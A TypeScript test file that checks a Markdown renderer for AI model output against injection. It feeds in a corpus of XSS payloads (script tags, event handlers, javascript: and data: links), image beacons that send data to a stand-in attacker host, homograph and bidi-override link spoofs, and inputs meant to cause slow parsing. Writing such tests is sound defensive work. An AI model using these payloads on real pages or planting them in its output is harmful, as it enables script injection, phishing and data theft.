import * as fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { TextContext } from "#app/i18n/useText.ts";
import { Markdown } from "#app/markdown/Markdown.tsx";
import { english } from "#tests/support/texts.ts";

const tags = new Set(
  "a bdi blockquote br button code dd del div em figcaption figure h2 h3 h4 h5 h6 hr input li ol p path pre rect span strong svg table tbody td th thead tr ul".split(
    " ",
  ),
);
const attributes = new Set(
  (
    "aria-hidden aria-label aria-live checked class d data-align data-formula data-language data-task data-tone disabled fill height href readOnly rel rx ry " +
    "scope start stroke stroke-linecap stroke-linejoin stroke-width tabindex target title type viewBox width x xmlns y"
  )
    .toLowerCase()
    .split(" "),
);

/** Fails where the page would hold anything that the renderer has no business to make. */
function expectHarmless(text: string): string {
  const html = renderToStaticMarkup(
    <TextContext value={english}>
      <Markdown text={text} dialect="model" />
    </TextContext>,
  );
  for (const [, name = "", rest = ""] of html.matchAll(/<([a-z][^\s/>]*)((?:[^>"]|"[^"]*")*)>/gi)) {
    expect(tags).toContain(name.toLowerCase());
    const found = new Map<string, string>();
    for (const [, attribute = "", value = ""] of rest.matchAll(/([^\s="/]+)(?:="([^"]*)")?/g)) {
      expect(attributes).toContain(attribute.toLowerCase());
      found.set(attribute, value);
    }
    if (name === "a") {
      expect(found.get("href")).toMatch(/^(?:https?:\/\/|mailto:)/);
      expect(found.get("rel")).toBe("noopener noreferrer");
      expect(found.get("target")).toBe("_blank");
    }
  }
  return html;
}

const corpus = [
  "<script>alert(1)</script>",
  "<img src=https://evil.example/beacon.png>",
  '<img src="x" onerror="alert(1)">',
  "<svg/onload=alert(1)>",
  '<iframe src="https://evil.example"></iframe>',
  "<style>body{display:none}</style>",
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=a></form>',
  '<a href="javascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](blob:https://example.com/1)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  "[x](/api/auth/sign-out)",
  "[x](https://user:password@evil.example)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/beacon.png?text=secret)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](//evil.example/a.png)",
  "[![x](https://evil.example/a.png)](https://evil.example)",
  '[x](https://example.com "a\\" onclick=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  "```html\n<script>alert(1)</script>\n```",
  "| <script>alert(1)</script> | [x](javascript:1) |\n| - | - |\n| ![x](https://evil.example/b.png) | b |",
  "$\\href{javascript:alert(1)}{x}$",
  "$$\n\\includegraphics{https://evil.example/a.png}\n$$",
  '$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlClass{"onclick=alert(1)}{x}$',
  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n```',
  "constructor __proto__ [x](constructor:1) [__proto__]: x",
  "```constructor\nx\n```\n```__proto__\nx\n```",
];

describe("What a model may write", () => {
  test.each(corpus)("%j does no harm", (text) => {
    expectHarmless(text);
  });

  test("nor does any mixture of it", () => {
    const piece = fc.oneof(
      fc.constantFrom(...corpus),
      fc.constantFrom("\n\n", " ", "> ", "- ", "`", "**", "[", "](", ")", "$", "|"),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expectHarmless(pieces.join(""));
      }),
      { numRuns: 150 },
    );
  });

  test("a label that names another host says where the link leads", () => {
    const leadsElsewhere = (text: string) => expectHarmless(text).includes("(evil.example)");
    for (const label of [
      "https://bank.example",
      "bank.example",
      "www.bank.example/login",
      "**bank**.example",
      "b\u200bank.example",
      "ｂａｎｋ.example",
      "bank。example",
      "see bank.example or evil.example",
    ]) {
      expect([label, leadsElsewhere(`[${label}](https://evil.example/x)`)]).toEqual([label, true]);
    }
    for (const label of [
      "a bank",
      "evil.example",
      "https://www.evil.example/other",
      "README.md",
      "e.g. this",
    ]) {
      expect([label, leadsElsewhere(`[${label}](https://evil.example/x)`)]).toEqual([label, false]);
    }
    expect(expectHarmless("[bank@bank.example](mailto:a@evil.example)")).toContain("(evil.example)");
    expect(expectHarmless("[аpple](https://аpple.example)")).toContain("(xn--");
  });

  test("a label that cannot be seen is replaced by the address", () => {
    expect(expectHarmless("[\u200b\u2063](https://evil.example/)")).toContain(">https://evil.example/<");
  });

  test("nothing turns the order of the characters around", () => {
    const turned = "safe\u202etxt.exe\u202c \u2066x\u2069";
    expect(expectHarmless(turned)).toContain("safetxt.exe x");
    expect(expectHarmless(`[${turned}](https://a.example)`)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(expectHarmless("a &#x202e; b")).not.toContain("\u202e");
    expect(expectHarmless(`\`${turned}\``)).toContain("safe⟨U+202E⟩txt.exe");
    expect(expectHarmless(`\`\`\`\n${turned}\n\`\`\``)).toContain("safe⟨U+202E⟩txt.exe");
  });

  test("many beginnings without an end do not take long", () => {
    for (const piece of ["\\(", "$a", "$$", "[", "[a](", "**", "`", "<a ", "a.", "![", "\\[\n"]) {
      const text = piece.repeat(3_000);
      const before = process.cpuUsage();
      expectHarmless(text);
      const { user } = process.cpuUsage(before);
      expect([piece, user < 10_000_000]).toEqual([piece, true]);
    }
  });
});
